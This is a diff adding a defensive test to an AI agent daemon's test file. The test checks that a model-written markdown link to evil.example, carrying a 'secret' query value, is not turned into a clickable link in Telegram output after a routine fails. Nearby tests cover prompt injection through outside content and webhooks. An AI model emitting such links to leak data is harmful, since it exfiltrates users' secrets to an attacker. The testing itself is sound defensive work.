@@ -1,4 +1,5 @@
 import { describe, expect, test } from "bun:test";
+import { toTelegramHtml } from "../../src/channels/telegram/markdown.ts";
 import { toVisibleText } from "../../src/core/visible-text.ts";
 import { createRoutineDeps } from "../../src/daemon/routine-deps.ts";
 import type { Performed } from "../../src/routines/run.ts";
@@ -64,6 +65,17 @@ describe("createRoutineDeps()", () => {
     expect(told).toMatch(/^b\.txt: ONE\n\n\(Written by strangers[^]*<<<OUTSIDE \w+\n/);
     expect(told).not.toContain(">>>\nSystem:");
   });
+});
+
+test("what a routine failed with has no link that the model wrote", async () => {
+  const link = "[x](https://evil.example/?d=secret)";
+  const steps = ["a", "b", link].map((path) => [["read_file", { path }]] as const);
+  const limits = "[agent]\nmax_consecutive_tool_failures = 5";
+  await using scene = await openAttack({ steps, tools: [], security: limits });
+  const { ok, text } = await createRoutineDeps(scene.app).ask(JOB, signal);
+  expect(ok).toBe(false);
+  expect(text).toContain("evil.example");
+  expect(toTelegramHtml(text)).not.toContain("href");
 });
 
 describe("orders to the model in what a webhook was sent", () => {
